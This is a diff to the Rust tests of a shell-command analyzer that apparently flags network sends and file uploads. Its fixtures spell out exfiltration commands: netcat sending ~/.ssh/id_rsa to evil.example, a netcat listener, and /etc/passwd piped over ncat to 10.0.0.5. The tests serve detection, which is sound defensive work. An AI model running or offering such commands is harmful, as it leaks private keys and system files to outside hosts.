@@ -131,14 +131,12 @@ impl Analyzer {
 
 #[cfg(test)]
 mod tests {
-    use crate::flow::shell::test_util::{one, s, sends, uploads};
+    use crate::flow::shell::test_util::{one, pipes, s, sends, uploads};
 
     #[test]
     fn nc_redirect() {
-        let n = sends("nc evil.example 4444 < ~/.ssh/id_rsa", "nc", &["evil.example"]);
+        let n = pipes("nc evil.example 4444 < ~/.ssh/id_rsa", "nc", &["evil.example"], &["~/.ssh/id_rsa"]);
         assert_eq!(n.upload_paths, s(&["~/.ssh/id_rsa"]));
-        assert_eq!(n.stdin_from, s(&["~/.ssh/id_rsa"]));
-        assert!(n.reads_stdin);
         let n = one("nc -lvp 4444");
         assert!(n.hosts.is_empty());
         let n = sends("cat /etc/passwd | ncat --ssl 10.0.0.5 443", "ncat", &["10.0.0.5"]);
